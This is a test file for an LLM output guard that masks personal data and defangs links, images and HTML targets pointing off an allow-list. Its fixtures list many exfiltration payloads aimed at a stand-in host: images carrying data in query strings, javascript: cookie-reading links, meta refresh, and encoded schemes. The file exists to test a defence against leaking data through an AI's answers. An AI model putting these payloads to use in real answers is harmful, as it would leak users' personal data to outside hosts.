import fc from 'fast-check';
import { maskPersonalData } from '../../lambda/guard/mask';
import { checkOutput } from '../../lambda/guard/output-check';
import {
  decodeTarget,
  heldBackFrom,
  isAllowedTarget,
  MAX_LINK_CONSTRUCT_CHARS,
  neutraliseLinks,
  protectedRanges,
  restoreOutsideLinks,
} from '../../lambda/guard/output-links';
import { DEFAULT_GUARD_POLICY } from '../../lambda/guard/policy';

const EMAIL = 'taro.yamada@example.co.jp';
const PHONE = '090-1234-5678';
const { vault } = maskPersonalData(`連絡先は ${EMAIL}、電話は ${PHONE} です`);
const restoring = { ...DEFAULT_GUARD_POLICY, restoreInAnswer: true };

/** A client would load or follow this: an absolute URL with a scheme or `//`, or `www.`. */
function liveUrls(text: string): string[] {
  return text.match(/(?:\b(?:https?|ftp|data|javascript|vbscript|file|blob):|(?<![\w:])\/\/|\bwww\.)[^\s<>"'`)]*/gi) ?? [];
}

describe('neutraliseLinks: every link and image form off the allow-list', () => {
  const evil: [string, string][] = [
    ['inline image', '![logo](https://evil.example/p.png?q=x)'],
    ['image with title', '![logo](https://evil.example/p.png "title")'],
    ['image with angle destination', '![logo](<https://evil.example/p q.png>)'],
    ['image, destination on the next line', '![logo](\n  https://evil.example/p.png\n  "t")'],
    ['inline link', '[click](https://evil.example/?q=x)'],
    ['link text over lines', '[click\nhere](https://evil.example/)'],
    ['image inside a link', '[![i](https://evil.example/i.png)](https://evil.example/)'],
    ['reference link', '[click][r]\n\n[r]: https://evil.example/?q=x'],
    ['reference image', '![logo][r]\n\n[r]: <https://evil.example/p.png> "t"'],
    ['reference definition, destination on the next line', '[r]\n\n[r]:\n   https://evil.example/p.png'],
    ['autolink', 'see <https://evil.example/?q=x>'],
    ['HTML img', '<img src="https://evil.example/p.png" alt="logo">'],
    ['HTML img, unquoted upper case', '<IMG SRC=https://evil.example/p.png>'],
    ['HTML img over lines', '<img\n  alt="x"\n  src="https://evil.example/p.png"\n>'],
    ['HTML img srcset', '<img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x">'],
    ['HTML anchor', '<a href="https://evil.example/">click</a>'],
    ['iframe', '<iframe src="https://evil.example/"></iframe>'],
    ['CSS url()', '<div style="background:url(https://evil.example/p.png)">x</div>'],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
    ['bare URL', 'go to https://evil.example/?q=x now'],
    ['bare www', 'go to www.evil.example/?q=x now'],
    ['scheme-relative', 'go to //evil.example/p.png'],
    ['host with path, no scheme', 'go to evil.example/p.png?q=x'],
    ['upper-case scheme', 'HTTPS://EVIL.EXAMPLE/P.PNG'],
    ['entity-encoded scheme', '![a](&#104;ttps://evil.example/p.png)'],
    ['entity-encoded javascript', '[a](javascript&#58;alert(1))'],
    ['percent-encoded target', '[a](https%3A%2F%2Fevil.example%2F)'],
    ['data: image', '![a](data:image/png;base64,iVBORw0KGgo=)'],
    ['javascript: link', '[a](javascript:alert(document.cookie))'],
    ['javascript: split by a tab', '[a](java\tscript:alert(1))'],
    ['mailto: link', '[a](mailto:x@evil.example?body=secret)'],
    ['relative link', '[a](/api/steal?q=x)'],
    ['entity-encoded bare URL', 'see https&colon;&sol;&sol;evil.example/x?q=1'],
    ['base tag', '<base href="https://evil.example/">[x](/steal)'],
    ['SVG image', '<svg><image href="https://evil.example/a.png"/></svg>'],
    ['object data', '<object data="https://evil.example/a"></object>'],
    ['bare mailto: with a body', 'mailto:someone@evil.example?body=secret'],
  ];

  it.each(evil)('%s: no live target is left', (_name, answer) => {
    const r = neutraliseLinks(answer, []);
    expect(r.total).toBeGreaterThan(0);
    expect(liveUrls(r.text)).toEqual([]);
    expect(r.text).not.toMatch(/\]\(|<img|<a |src=|href=|url\(|url=/i);
    // Idempotent.
    expect(neutraliseLinks(r.text, []).text).toBe(r.text);
  });

  it.each(evil)('%s: also when other hosts are allowed', (_name, answer) => {
    const r = neutraliseLinks(answer, ['docs.example.com', '*.intra.example.jp']);
    expect(liveUrls(r.text)).toEqual([]);
  });

  it('turns images into inert text with their alt text and keeps link text', () => {
    expect(neutraliseLinks('前 ![会社ロゴ](https://evil.example/p.png) 後').text).toBe('前 [image: 会社ロゴ] 後');
    expect(neutraliseLinks('詳細は[こちら](https://evil.example/)へ').text).toBe('詳細はこちらへ');
    expect(neutraliseLinks('<a href="https://evil.example/">規程</a>を参照').text).toBe('規程を参照');
    expect(neutraliseLinks('see https://evil.example/a.b').text).toBe('see hxxps[://]evil[.]example/a[.]b');
  });

  it('keeps https links and images on allow-listed hosts, and only those', () => {
    const allowed = ['docs.example.com', '*.intra.example.jp'];
    const ok = '[手順](https://docs.example.com/a) ![図](https://wiki.intra.example.jp/f.png) https://docs.example.com/b';
    expect(neutraliseLinks(ok, allowed)).toMatchObject({ text: ok, total: 0 });
    for (const bad of [
      'https://docs.example.com@evil.example/',
      'https://docs.example.com.evil.example/',
      'https://evil.example/docs.example.com',
      'ftp://docs.example.com/f',
      'javascript://docs.example.com/%0aalert(1)',
      'https://intra.example.jp.evil.example/',
    ]) {
      expect(isAllowedTarget(bad, allowed)).toBe(false);
      expect(neutraliseLinks(`[x](${bad})`, allowed).links).toBe(1);
    }
    expect(isAllowedTarget('HTTPS://DOCS.EXAMPLE.COM/a', allowed)).toBe(true);
    expect(isAllowedTarget('https://docs%2Eexample.com/a', allowed)).toBe(true);
  });

  it('decodes entities, percent-encoding and ignored characters as a browser reads a target', () => {
    expect(decodeTarget('&#x6A;ava&Tab;script&colon;x')).toBe('javascript:x');
    expect(decodeTarget('https%253A%252F%252Fevil.example')).toBe('https://evil.example');
    expect(decodeTarget('ht\ntps://evil.example')).toBe('https://evil.example');
  });

  it('leaves fenced code blocks alone (renderers never link inside them)', () => {
    const code = '```html\n<img src="https://cdn.example/x.png">\n```';
    expect(neutraliseLinks(code).text).toBe(code);
  });
});

describe('restore never writes into a URL, link target, image source or code', () => {
  it('the exfiltration example comes back without a loadable URL carrying the e-mail', () => {
    const r = checkOutput('![logo](https://evil.example/p.png?q=[EMAIL_1])', { vault, policy: restoring });
    expect(r.text).not.toContain(EMAIL);
    expect(liveUrls(r.text)).toEqual([]);
    expect(r.action).toBe('flag');
    expect(r.reasons).toEqual(expect.arrayContaining(['link_payload', 'link_neutralised']));
    expect(r.neutralisedLinks).toBe(1);
  });

  it('restores in prose but not in an allowed link, a query string or code', () => {
    const answer =
      '宛先は [EMAIL_1] です。[フォーム](https://docs.example.com/f?to=[EMAIL_1]) ' +
      'id=1&mail=[EMAIL_1] `[PHONE_NUMBER_1]`\n```\ncall [PHONE_NUMBER_1]\n```\n    [EMAIL_1] (indented)';
    const r = checkOutput(answer, { vault, policy: restoring, allowedLinkHosts: ['docs.example.com'] });
    expect(r.text.startsWith(`宛先は ${EMAIL} です。`)).toBe(true);
    expect(r.text).toContain('(https://docs.example.com/f?to=[EMAIL_1])');
    expect(r.text).toContain('&mail=[EMAIL_1]');
    expect(r.text).toContain('`[PHONE_NUMBER_1]`');
    expect(r.text).toContain('call [PHONE_NUMBER_1]');
    expect(r.text).toContain('    [EMAIL_1] (indented)');
    expect(r.reasons).toContain('link_payload');
  });

  it('flags links that carry an identifier or an encoded placeholder, even without restore', () => {
    expect(checkOutput('[x](https://docs.example.com/?m=taro%40example.co.jp)', { allowedLinkHosts: ['docs.example.com'] }).reasons).toContain('link_payload');
    expect(checkOutput('[x](https://docs.example.com/?m=%5BEMAIL_1%5D)', { vault, allowedLinkHosts: ['docs.example.com'] }).reasons).toContain('link_payload');
    expect(checkOutput('[手順](https://docs.example.com/guide)', { allowedLinkHosts: ['docs.example.com'] })).toMatchObject({ action: 'pass', reasons: [] });
  });

  it('restoreOutsideLinks refuses a restore that would join a URL', () => {
    expect(restoreOutsideLinks('https://evil.example/?a=[EMAIL_1]', vault)).toBe('https://evil.example/?a=[EMAIL_1]');
    expect(protectedRanges('a https://x.example/[EMAIL_1] b')).toEqual([{ start: 2, end: 29 }]);
  });

  const word = fc.constantFrom('ご確認', 'ください', 'see', 'the', 'link', 'です。', '\n', ' ', '(', ')', '[', ']', '!', '<', '>', '"', '=', '?', '&', '`');
  const hole = fc.constantFrom('[EMAIL_1]', '[PHONE_NUMBER_1]', '%5BEMAIL_1%5D', '&#91;EMAIL_1&#93;');
  const host = fc.constantFrom('evil.example', 'docs.example.com', 'docs.example.com@evil.example', 'wiki.intra.example.jp');
  const scheme = fc.constantFrom('https://', 'http://', '//', 'HTTPS://', 'h&#116;tps://', 'javascript:', 'data:text/html,', '');
  const url = fc.tuple(scheme, host, fc.constantFrom('/p.png?q=', '/?u=', '/', '/a/', '#'), hole, fc.constantFrom('', '\n', ' ')).map((p) => p.join(''));
  const construct = fc.oneof(
    url.map((u) => `![logo](${u})`),
    url.map((u) => `[here](${u})`),
    url.map((u) => `[here](\n${u} "t")`),
    url.map((u) => `[r]: ${u}\n`),
    url.map((u) => `<${u}>`),
    url.map((u) => `<img src="${u}" alt="a">`),
    url.map((u) => `<a href='${u}'>x</a>`),
    url,
    fc.tuple(word, hole).map(([w, h]) => `${w}?x=${h}`),
    hole.map((h) => `\`${h}\``),
    hole,
    word,
  );

  it('property: no restored value ever appears inside a URL of the returned answer', () => {
    fc.assert(
      fc.property(fc.array(construct, { maxLength: 12 }), fc.boolean(), (parts, allowSome) => {
        const answer = parts.join('');
        const allowedLinkHosts = allowSome ? ['docs.example.com', '*.intra.example.jp'] : [];
        const r = checkOutput(answer, { vault, policy: restoring, allowedLinkHosts });
        for (const u of liveUrls(r.text)) {
          expect(u).not.toContain(EMAIL);
          expect(u).not.toContain(PHONE);
        }
        // Nothing is left that a renderer loads or follows off the allow-list.
        for (const u of liveUrls(r.text)) {
          const absolute = u.startsWith('//') ? `https:${u}` : /^www\./i.test(u) ? `https://${u}` : u;
          expect(isAllowedTarget(absolute, allowedLinkHosts)).toBe(true);
        }
      }),
      { numRuns: 400 },
    );
  });
});

describe('heldBackFrom: what a streaming caller holds back', () => {
  it('holds an unfinished image, link, tag, definition or last word and never more than the cap', () => {
    expect(heldBackFrom('見て ![logo](https://ev')).toBe(3);
    expect(heldBackFrom('見て [こちら]')).toBe(3);
    expect(heldBackFrom('見て <img src="x')).toBe(3);
    expect(heldBackFrom('本文\n[r]:')).toBe(3);
    expect(heldBackFrom('done. ')).toBe(6);
    expect(heldBackFrom('see htt')).toBe(4);
    const long = `[${'x'.repeat(MAX_LINK_CONSTRUCT_CHARS * 2)}`;
    expect(long.length - heldBackFrom(long)).toBeLessThanOrEqual(MAX_LINK_CONSTRUCT_CHARS);
  });

  it('neutralising the emitted prefix and the rest apart gives the same text as all at once', () => {
    const answer = 'ロゴ ![logo](https://evil.example/p.png?q=[EMAIL_1]) と [リンク](https://evil.example/) を https://evil.example/x です';
    const whole = neutraliseLinks(answer).text;
    for (let cut = 1; cut < answer.length; cut++) {
      const head = answer.slice(0, cut);
      const safe = heldBackFrom(head);
      expect(neutraliseLinks(answer.slice(0, safe)).text + neutraliseLinks(answer.slice(safe)).text).toBe(whole);
    }
  });
});

describe('an allowed URL run carrying a second URL', () => {
  // Found by the property test: the allow-list check read only the run's first host.
  it.each([
    ['https URL', 'docs.example.com/p.png?q=[EMAIL_1]https://evil.example/p.png?q=[EMAIL_1]'],
    ['data: URL', 'docs.example.com/p.png?q=[EMAIL_1]data:text/html,evil.example/p.png'],
    ['javascript: URL', 'https://docs.example.com/?next=javascript:alert(1)'],
  ])('%s after an allow-listed host is defanged', (_name, answer) => {
    const r = neutraliseLinks(`see ${answer}`, ['docs.example.com']);
    expect(liveUrls(r.text)).toEqual([]);
    expect(r.urls).toBe(1);
  });
});
